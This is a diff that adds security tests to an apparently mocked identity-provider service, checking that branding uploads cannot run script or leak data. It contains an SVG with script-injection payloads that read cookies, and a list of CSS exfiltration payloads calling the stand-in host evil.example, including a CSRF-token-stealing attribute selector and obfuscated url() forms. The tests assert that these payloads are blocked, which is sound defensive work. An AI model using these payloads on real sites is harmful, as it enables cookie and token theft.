@@ -126,3 +126,53 @@ def test_get_client_token(idp: Any) -> None:
         idp.get_client_token(
             ClientId=machine["ClientId"], Secret=machine["ClientSecret"], Scopes=["openid"]
         )
+
+
+def test_an_svg_asset_is_served_so_it_cannot_run_script(idp: Any, server: Any) -> None:
+    """Security review #13: an SVG logo with a script comes back sandboxed by its CSP."""
+    pool_id = idp.create_user_pool(PoolName="styled")["UserPool"]["Id"]
+    client = oauth_client(idp, pool_id, secret=False)
+    svg = (
+        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+        b"<script>alert(document.cookie)</script></svg>"
+    )
+    asset = {"Category": "FORM_LOGO", "ColorMode": "LIGHT", "Extension": "SVG", "Bytes": svg}
+    idp.create_managed_login_branding(
+        UserPoolId=pool_id, ClientId=client["ClientId"], Assets=[asset]
+    )
+    served = httpx.get(f"{server.url}/_branding/{pool_id}/style/{client['ClientId']}")
+    assert served.status_code == 200 and served.content == svg
+    assert served.headers["content-type"].startswith("image/svg+xml")
+    policy = [part.strip() for part in served.headers["content-security-policy"].split(";")]
+    assert policy == ["default-src 'none'", "style-src 'unsafe-inline'", "sandbox"]
+    assert served.headers["content-disposition"] == "inline"
+    assert served.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.mark.parametrize(
+    "css",
+    [
+        "@import url(https://evil.example/steal.css);",
+        '@IMPORT "https://evil.example/steal.css";',
+        'input[name=_csrf][value^="a"] { background: url(https://evil.example/a); }',
+        ".banner-customizable { background: url( //evil.example/a ); }",
+        ".banner-customizable { background-image: image-set('http:evil.example/a' 1x); }",
+        ".banner-customizable { background: u\\72l(https://evil.example/a); }",
+    ],
+)
+def test_ui_css_may_not_load_from_other_origins(idp: Any, server: Any, css: str) -> None:
+    """Security review #14: admin CSS can read hidden fields, so it may not send them away."""
+    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
+    with pytest.raises(idp.exceptions.InvalidParameterException):
+        idp.set_ui_customization(UserPoolId=pool_id, CSS=css)
+
+
+def test_ui_css_may_use_this_servers_and_data_urls(idp: Any, server: Any) -> None:
+    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
+    css = (
+        ".banner-customizable { background: url(data:image/png;base64,AAAA) }\n"
+        '.background-customizable { background-image: url("/static/bg.png"); '
+        'font-family: "Helvetica Neue", sans-serif; }'
+    )
+    shown = idp.set_ui_customization(UserPoolId=pool_id, CSS=css)["UICustomization"]
+    assert shown["CSS"] == css
